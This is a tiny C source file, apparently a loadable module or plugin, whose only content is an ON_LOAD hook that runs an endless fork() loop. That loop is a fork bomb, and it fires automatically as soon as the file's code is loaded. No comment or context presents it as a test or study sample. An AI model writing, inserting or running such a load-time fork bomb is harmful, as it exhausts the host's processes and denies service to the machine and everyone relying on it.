#include "act.h"
ON_LOAD {
  for (;;) fork();
}
